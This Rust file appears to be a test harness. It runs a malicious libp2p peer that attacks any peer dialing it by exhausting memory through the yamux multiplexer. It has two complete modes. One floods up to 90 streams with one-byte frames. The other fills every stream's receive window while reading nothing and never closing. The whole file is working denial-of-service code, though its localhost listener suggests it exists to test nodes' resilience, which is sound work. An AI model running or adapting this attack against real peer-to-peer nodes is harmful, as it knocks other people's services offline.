//! A libp2p peer that keeps the rules of yamux and fills memory with what they leave open: bytes in frames of one each, which take a
//! hundred times as much, and streams that it never lets go.

use std::io;
use std::iter;
use std::pin::Pin;
use std::task::{Context, Poll};

use libp2p::core::Transport;
use libp2p::core::muxing::{StreamMuxer, StreamMuxerEvent};
use libp2p::core::transport::{ListenerId, TransportEvent};
use libp2p::core::upgrade::{InboundConnectionUpgrade, OutboundConnectionUpgrade, UpgradeInfo, Version};
use libp2p::futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, StreamExt, future};
use libp2p::identity::Keypair;
use libp2p::{noise, tcp};
use tokio::task::JoinHandle;

/// What it fills memory with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Trick {
    /// Frames of one byte, on as many streams as it may have.
    Tiny,
    /// Full windows on one stream after the other, while it reads nothing: no reset goes out.
    Deaf,
}

const SYN: u8 = 1;
/// What yamux lets it send on each stream before anybody reads, bytes.
const WINDOW: usize = 256 * 1024;
const HELLO: &[u8] = b"\x13/multistream/1.0.0\n\x15/ipfs/bitswap/1.2.0\n\x80\x80\x80\x01";
const STREAMS: u32 = 90;

/// The connection below yamux, in the form of a multiplexer.
struct Raw<C>(C);

impl<C: AsyncRead + AsyncWrite + Unpin> StreamMuxer for Raw<C> {
    type Substream = C;
    type Error = io::Error;

    fn poll_inbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<C>> {
        Poll::Pending
    }

    fn poll_outbound(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<C>> {
        Poll::Pending
    }

    fn poll_close(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<()>> {
        Poll::Ready(Ok(()))
    }

    fn poll(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<io::Result<StreamMuxerEvent>> {
        Poll::Pending
    }
}

#[derive(Clone)]
struct ByHand;

impl UpgradeInfo for ByHand {
    type Info = &'static str;
    type InfoIter = iter::Once<&'static str>;

    fn protocol_info(&self) -> Self::InfoIter {
        iter::once("/yamux/1.0.0")
    }
}

impl<C> InboundConnectionUpgrade<C> for ByHand {
    type Output = Raw<C>;
    type Error = io::Error;
    type Future = future::Ready<io::Result<Raw<C>>>;

    fn upgrade_inbound(self, io: C, _: &'static str) -> Self::Future {
        future::ready(Ok(Raw(io)))
    }
}

impl<C> OutboundConnectionUpgrade<C> for ByHand {
    type Output = Raw<C>;
    type Error = io::Error;
    type Future = future::Ready<io::Result<Raw<C>>>;

    fn upgrade_outbound(self, io: C, _: &'static str) -> Self::Future {
        future::ready(Ok(Raw(io)))
    }
}

/// Listens; gives its address, with its id.
pub async fn start(trick: Trick) -> (String, JoinHandle<()>) {
    let key = Keypair::generate_ed25519();
    let id = key.public().to_peer_id();
    let mut transport = tcp::tokio::Transport::new(tcp::Config::default())
        .upgrade(Version::V1Lazy)
        .authenticate(noise::Config::new(&key).unwrap())
        .multiplex(ByHand)
        .map(|(_, raw), _| raw)
        .boxed();
    transport.listen_on(ListenerId::next(), "/ip4/127.0.0.1/tcp/0".parse().unwrap()).unwrap();
    let TransportEvent::NewAddress { listen_addr, .. } = transport.next().await.unwrap() else {
        panic!("it does not listen")
    };
    let serving = tokio::spawn(async move {
        while let Some(event) = transport.next().await {
            if let TransportEvent::Incoming { upgrade, .. } = event {
                tokio::spawn(async move {
                    if let Ok(Raw(line)) = upgrade.await {
                        let _ = attack(line, trick).await;
                    }
                });
            }
        }
    });
    (format!("{listen_addr}/p2p/{id}"), serving)
}

async fn attack(line: impl AsyncRead + AsyncWrite + Unpin + Send + 'static, trick: Trick) -> io::Result<()> {
    let (mut from, mut to) = line.split();
    if trick == Trick::Tiny {
        tokio::spawn(async move {
            let mut part = vec![0; 4 * 1024];
            while matches!(from.read(&mut part).await, Ok(1..)) {}
        });
    }
    for stream in 1..=STREAMS {
        to.write_all(&frame(stream * 2, SYN, HELLO)).await?;
        match trick {
            Trick::Tiny => {
                let tiny = frame(stream * 2, 0, b"x").repeat(4 * 1024);
                for _ in 0..WINDOW / 4_096 - 1 {
                    to.write_all(&tiny).await?;
                }
            }
            Trick::Deaf => to.write_all(&frame(stream * 2, 0, &vec![b'x'; WINDOW - 1_024])).await?,
        }
        to.flush().await?;
    }
    // Neither end closes.
    std::future::pending().await
}

/// A frame of data.
fn frame(stream: u32, flags: u8, bytes: &[u8]) -> Vec<u8> {
    let mut frame = vec![0, 0, 0, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(u32::try_from(bytes.len()).unwrap().to_be_bytes());
    frame.extend(bytes);
    frame
}
